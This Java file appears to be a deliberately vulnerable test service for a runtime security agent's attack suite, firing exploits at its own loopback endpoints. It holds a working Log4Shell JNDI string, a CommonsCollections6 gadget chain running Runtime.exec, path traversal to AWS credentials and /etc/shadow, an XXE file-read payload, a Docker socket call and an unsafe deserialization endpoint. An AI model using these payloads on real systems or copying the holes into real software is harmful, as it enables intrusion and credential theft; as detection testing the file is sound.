package dev.tripline.vulnapp;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.net.Socket;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Hashtable;
import java.util.List;
import java.util.Map;
import javax.naming.Context;
import javax.naming.NamingEnumeration;
import javax.naming.NamingException;
import javax.naming.directory.Attributes;
import javax.naming.directory.SearchControls;
import javax.naming.directory.SearchResult;
import javax.naming.ldap.InitialLdapContext;
import javax.naming.ldap.LdapContext;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * A deliberately vulnerable service for the attack suite, run in a forked JVM with the agent:
 * log4j-core 2.14.1 logging a request header, an endpoint deserializing with commons-collections
 * 3.2.1 on the class path, a file endpoint without path confinement, an XML parser with external
 * entities on, and code that talks to a Unix socket. {@code normal} serves ordinary requests;
 * {@code attack} sends each exploit through the same endpoints. Each attack lives in its own class
 * so that each gets an alert of its own (alerts fold per call-site class). Both arrive as HTTP
 * requests to the app's own JDK {@code HttpServer} ({@link Front}): the normal work as {@code GET
 * /normal}, each attack as {@code POST /attack/<name>} with {@code X-Forwarded-For: 203.0.113.7}
 * and a {@code traceparent}, so that every event names the request that carried it.
 *
 * <p>Arguments: mode work-dir db-port ldap-port stop-file [directory-port [http-port]] (the HTTP
 * front's port: the same on every run of a service, or its client's connect would be new each time;
 * directory port 0: no directory client)
 *
 * <p>Modes {@code attack-protected} and {@code normal-protected} (ProtectAttackSuiteIT) wait for
 * the test's go file ({@code <stop-file>.go}) before any work: a new JVM enforces once its policy
 * thread read the policy, and the test gives the go once the agent said which policy is in force.
 */
public final class VulnerableApp {
  /**
   * log4j-core 2.14.1 from target/attack-libs, called reflectively: it is no compile dependency of
   * this module.
   */
  private static final Log4j LOG = new Log4j();

  static final class Log4j {
    private final Object logger;
    private final java.lang.reflect.Method error;

    Log4j() {
      try {
        logger =
            Class.forName("org.apache.logging.log4j.LogManager")
                .getMethod("getLogger", String.class)
                .invoke(null, VulnerableApp.class.getName());
        error =
            Class.forName("org.apache.logging.log4j.Logger")
                .getMethod("error", String.class, Object.class);
      } catch (ReflectiveOperationException e) {
        throw new IllegalStateException("log4j-core 2.14.1 must be on the class path", e);
      }
    }

    void error(String format, Object arg) throws ReflectiveOperationException {
      error.invoke(logger, format, arg);
    }
  }

  private VulnerableApp() {}

  /** The attacks' endpoints, in the order they are sent: {@code POST /attack/<name>}. */
  static final List<String> ATTACKS =
      List.of(
          "log4shell",
          "gadget",
          "traversal",
          "dot-slash",
          "symlink",
          "etc-shadow",
          "xxe",
          "docker-socket");

  public static void main(String[] args) throws Exception {
    String mode = args[0];
    Path work = Path.of(args[1]);
    int dbPort = Integer.parseInt(args[2]);
    int ldapPort = Integer.parseInt(args[3]);
    Front front = new Front(args.length > 6 ? Integer.parseInt(args[6]) : 0);
    try {
      front.serve("/normal", () -> normal(work, dbPort));
      front.serve("/attack/log4shell", () -> Log4Shell.run(ldapPort));
      front.serve("/attack/gadget", () -> Gadget.run(work));
      front.answer("/attack/traversal", () -> Traversal.run(work));
      front.serve("/attack/dot-slash", () -> DotSlash.run(work));
      front.serve("/attack/symlink", () -> Symlink.run(work));
      front.serve("/attack/etc-shadow", ShadowRead::run);
      front.serve("/attack/xxe", () -> Xxe.run(work));
      front.serve("/attack/docker-socket", () -> DockerSocket.run(work));
      front.start();
      if (mode.endsWith("-protected")) {
        Path go = Path.of(args[4] + ".go");
        for (int i = 0; i < 3600 && !Files.exists(go); i++) {
          Thread.sleep(50);
        }
      }
      front.send("GET", "/normal", false);
      if (args.length > 5 && !args[5].equals("0")) {
        Directory.run(Integer.parseInt(args[5]));
      }
      if (mode.equals("attack")) {
        for (String attack : ATTACKS) {
          front.send("POST", "/attack/" + attack, true);
        }
      }
      if (mode.equals("attack-protected")) {
        // protect mode (ProtectAttackSuiteIT): a refused attack fails as its endpoint would, the
        // service answers on; then a normal request. The traversal goes through the HTTP front, as
        // an attacker sends it: what its answer carries is what the attacker gets.
        survive("log4shell", () -> Log4Shell.run(ldapPort));
        survive("gadget", () -> Gadget.run(work));
        System.out.println(
            "attack traversal: answered " + front.fetch("POST", "/attack/traversal", true));
        survive("dot-slash", () -> DotSlash.run(work));
        survive("symlink", () -> Symlink.run(work));
        survive("etc-shadow", ShadowRead::run);
        survive("xxe", () -> Xxe.run(work));
        survive("docker-socket", () -> DockerSocket.run(work));
        normal(work, dbPort);
        System.out.println("normal request after the attacks: ok");
      }
    } finally {
      front.stop();
    }
    System.out.println("VulnerableApp " + mode + " done");
    // A service keeps running: stay up until the test has seen what it needs (its stop file), so
    // the agent's sends never race the JVM's exit on a loaded machine.
    Path stop = Path.of(args[4]);
    for (int i = 0; i < 1200 && !Files.exists(stop); i++) {
      Thread.sleep(50);
    }
  }

  /** One attack as its endpoint would serve it: a failure is the endpoint's error answer. */
  static void survive(String name, Work attack) {
    try {
      attack.run();
      System.out.println("attack " + name + ": went through");
    } catch (Exception | Error e) {
      Throwable root = e;
      while (root.getCause() != null && root.getCause() != root) root = root.getCause();
      System.out.println("attack " + name + ": failed " + root);
    }
  }

  /** What an endpoint does. */
  interface Work {
    void run() throws Exception;
  }

  /** What an endpoint answers. */
  interface Page {
    byte[] render() throws Exception;
  }

  /**
   * The service's HTTP front: the JDK's {@code HttpServer} on a loopback port, one endpoint per
   * piece of work, and the client that calls it. An attack's request says it was forwarded for
   * {@value #FORWARDED_FOR} and carries a W3C {@code traceparent}.
   */
  public static final class Front {
    public static final String FORWARDED_FOR = "203.0.113.7";
    public static final String TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736";
    static final String TRACEPARENT = "00-" + TRACE_ID + "-00f067aa0ba902b7-01";

    private final com.sun.net.httpserver.HttpServer server;
    private final java.util.concurrent.ExecutorService pool =
        java.util.concurrent.Executors.newFixedThreadPool(2);

    Front(int port) throws IOException {
      server =
          com.sun.net.httpserver.HttpServer.create(
              new java.net.InetSocketAddress("127.0.0.1", port), 0);
      server.setExecutor(pool);
    }

    void serve(String path, Work work) {
      answer(
          path,
          () -> {
            work.run();
            return new byte[0];
          });
    }

    /**
     * An endpoint that answers what {@code page} gives (200), or, when it throws, 500 with the root
     * cause as a framework's default error page shows it.
     */
    void answer(String path, Page page) {
      server.createContext(
          path,
          exchange -> {
            int status = 200;
            byte[] body;
            try {
              body = page.render();
            } catch (Exception e) {
              status = 500;
              Throwable root = e;
              while (root.getCause() != null && root.getCause() != root) root = root.getCause();
              body = root.toString().getBytes(StandardCharsets.UTF_8);
            }
            exchange.sendResponseHeaders(status, body.length == 0 ? -1 : body.length);
            if (body.length > 0) exchange.getResponseBody().write(body);
            exchange.close();
          });
    }

    /** A request as {@link #send} makes it; answers "status body" (line breaks as \\n). */
    String fetch(String method, String path, boolean forwarded) throws IOException {
      java.net.HttpURLConnection c = open(method, path, forwarded);
      int status = c.getResponseCode();
      InputStream in = status < 400 ? c.getInputStream() : c.getErrorStream();
      String body = "";
      if (in != null) {
        try (in) {
          body = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
      }
      c.disconnect();
      return status + " " + body.replace("\n", "\\n");
    }

    /**
     * Starts serving once the agent records (its MBean is up): a request that starts while the
     * agent is still starting carries no context.
     */
    void start() throws Exception {
      javax.management.MBeanServer beans =
          java.lang.management.ManagementFactory.getPlatformMBeanServer();
      javax.management.ObjectName agent =
          new javax.management.ObjectName("dev.tripline:type=Agent");
      for (int i = 0; i < 3000 && !beans.isRegistered(agent); i++) {
        Thread.sleep(20);
      }
      server.start();
    }

    void send(String method, String path, boolean forwarded) throws IOException {
      java.net.HttpURLConnection c = open(method, path, forwarded);
      int status = c.getResponseCode();
      c.disconnect();
      if (status != 200) {
        throw new IllegalStateException(method + " " + path + " answered " + status);
      }
    }

    private java.net.HttpURLConnection open(String method, String path, boolean forwarded)
        throws IOException {
      java.net.HttpURLConnection c =
          (java.net.HttpURLConnection)
              java.net
                  .URI
                  .create("http://127.0.0.1:" + server.getAddress().getPort() + path)
                  .toURL()
                  .openConnection();
      c.setRequestMethod(method);
      if (forwarded) {
        c.setRequestProperty("X-Forwarded-For", FORWARDED_FOR);
        c.setRequestProperty("traceparent", TRACEPARENT);
      }
      return c;
    }

    void stop() {
      server.stop(0);
      pool.shutdownNow();
    }
  }

  /** What the service does for ordinary requests: the same on every run. */
  static void normal(Path work, int dbPort) throws Exception {
    LOG.error("order placed by {}", "Mozilla/5.0 (X11; Linux x86_64)");
    try (InputStream in = new FileInputStream(work.resolve("app/config.yml").toFile())) {
      in.readAllBytes();
    }
    try (Socket db = new Socket("127.0.0.1", dbPort)) {
      db.getOutputStream().write(1);
    }
    Object cart = deserialize(serialize(new ArrayList<>(List.of("apple", "pear"))));
    if (!(cart instanceof ArrayList)) throw new IllegalStateException();
    DocumentBuilderFactory.newInstance()
        .newDocumentBuilder()
        .parse(
            new ByteArrayInputStream(
                "<order><item>apple</item></order>".getBytes(StandardCharsets.UTF_8)));
    File upload = File.createTempFile("upload", ".tmp");
    Files.writeString(upload.toPath(), "data");
    upload.delete();
  }

  static byte[] serialize(Object o) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(o);
    }
    return bytes.toByteArray();
  }

  /** The vulnerable endpoint: deserializes whatever the client sends. */
  static Object deserialize(byte[] body) throws Exception {
    try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(body))) {
      return in.readObject();
    }
  }

  /**
   * Normal too: a directory client as Keycloak's LDAP user federation is one — a context built from
   * configuration (provider URL, bind DN), searched, read and looked up by DN. Its JNDI I/O is the
   * service's own, never a JNDI-injection callback.
   */
  static final class Directory {
    @SuppressWarnings("BanJNDI") // deliberate: the directory client whose I/O must stay quiet
    static void run(int port) throws NamingException {
      Hashtable<String, Object> env = new Hashtable<>();
      env.put(Context.INITIAL_CONTEXT_FACTORY, "com.sun.jndi.ldap.LdapCtxFactory");
      env.put(Context.PROVIDER_URL, "ldap://127.0.0.1:" + port);
      env.put(Context.SECURITY_AUTHENTICATION, "simple");
      env.put(Context.SECURITY_PRINCIPAL, "cn=admin,dc=example,dc=com");
      env.put(Context.SECURITY_CREDENTIALS, "directory-secret");
      env.put("com.sun.jndi.ldap.connect.timeout", "5000");
      env.put("com.sun.jndi.ldap.read.timeout", "5000");
      LdapContext ctx = new InitialLdapContext(env, null);
      try {
        SearchControls controls = new SearchControls();
        controls.setSearchScope(SearchControls.SUBTREE_SCOPE);
        NamingEnumeration<SearchResult> found =
            ctx.search("ou=users,dc=example,dc=com", "(uid=alice)", controls);
        if (!found.hasMore()) throw new IllegalStateException("alice is in the directory");
        found.close();
        Attributes alice = ctx.getAttributes("uid=alice,ou=users,dc=example,dc=com");
        if (alice.get("cn") == null) throw new IllegalStateException(alice.toString());
        ctx.lookup("uid=alice,ou=users,dc=example,dc=com");
        System.out.println("directory user found: " + alice.get("cn").get());
      } finally {
        ctx.close();
      }
    }
  }

  /** A request header logged as is: Log4Shell calling back to a port that is not LDAP's. */
  static final class Log4Shell {
    static void run(int ldapPort) throws ReflectiveOperationException {
      LOG.error("request from User-Agent: {}", "${jndi:ldap://127.0.0.1:" + ldapPort + "/a}");
    }
  }

  /**
   * CommonsCollections6: HashSet → TiedMapEntry.hashCode → LazyMap → InvokerTransformer →
   * Runtime.exec(touch).
   */
  static final class Gadget {
    static void run(Path work) throws Exception {
      String marker = work.resolve("pwned-by-gadget").toString();
      Transformer[] chain = {
        new ConstantTransformer(Runtime.class),
        new InvokerTransformer(
            "getMethod",
            new Class<?>[] {String.class, Class[].class},
            new Object[] {"getRuntime", new Class<?>[0]}),
        new InvokerTransformer(
            "invoke",
            new Class<?>[] {Object.class, Object[].class},
            new Object[] {null, new Object[0]}),
        new InvokerTransformer(
            "exec",
            new Class<?>[] {String[].class},
            new Object[] {new String[] {"/usr/bin/touch", marker}}),
        new ConstantTransformer(1)
      };
      ChainedTransformer chained =
          new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
      Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chained);
      TiedMapEntry entry = new TiedMapEntry(lazy, "k");
      HashSet<Object> set = new HashSet<>();
      set.add(entry);
      lazy.remove("k");
      Field f = ChainedTransformer.class.getDeclaredField("iTransformers");
      f.setAccessible(true);
      f.set(chained, chain); // armed only now: building the payload runs nothing
      deserialize(serialize(set)); // the attacker's bytes reach the endpoint
      for (int i = 0; i < 50 && !new File(marker).exists(); i++) Thread.sleep(20);
    }
  }

  /**
   * The file endpoint, given {@code app/data/../../home/.aws/credentials} under the temp work
   * directory.
   */
  static final class Traversal {
    static byte[] run(Path work) throws IOException {
      try (InputStream in = new FileInputStream(work + "/app/data/../../home/.aws/credentials")) {
        return in.readAllBytes();
      }
    }
  }

  static final class DotSlash {
    static void run(Path work) throws IOException {
      try (InputStream in = new FileInputStream(work + "/home/.aws/./credentials")) {
        in.readAllBytes();
      }
    }
  }

  /** {@code app/data/innocent.txt} is a link the attacker planted to the credentials file. */
  static final class Symlink {
    static void run(Path work) throws IOException {
      try (InputStream in = new FileInputStream(work + "/app/data/innocent.txt")) {
        in.readAllBytes();
      }
    }
  }

  /**
   * {@code /etc/shadow} behind {@code /tmp/..} and {@code /./}; when not root the read fails, and
   * the attempt is still an event.
   */
  static final class ShadowRead {
    static void run() {
      try (InputStream in = new FileInputStream("/tmp/../etc/./shadow")) {
        in.readAllBytes();
      } catch (IOException expected) {
        // permission denied when not root: the attempt is the event
      }
    }
  }

  /** XML with an external entity pointing at a local file, parsed with the JDK's defaults. */
  static final class Xxe {
    static void run(Path work) throws Exception {
      String xml =
          "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file://"
              + work.resolve("app/secret.txt")
              + "\">]><r>&x;</r>";
      DocumentBuilderFactory.newInstance()
          .newDocumentBuilder()
          .parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    }
  }

  /** The container runtime's API socket: the classic way out of a container. */
  static final class DockerSocket {
    static void run(Path work) throws IOException {
      try (SocketChannel ch =
          SocketChannel.open(UnixDomainSocketAddress.of(work.resolve("run/docker.sock")))) {
        ch.write(
            java.nio.ByteBuffer.wrap(
                "GET /containers/json HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII)));
      }
    }
  }
}
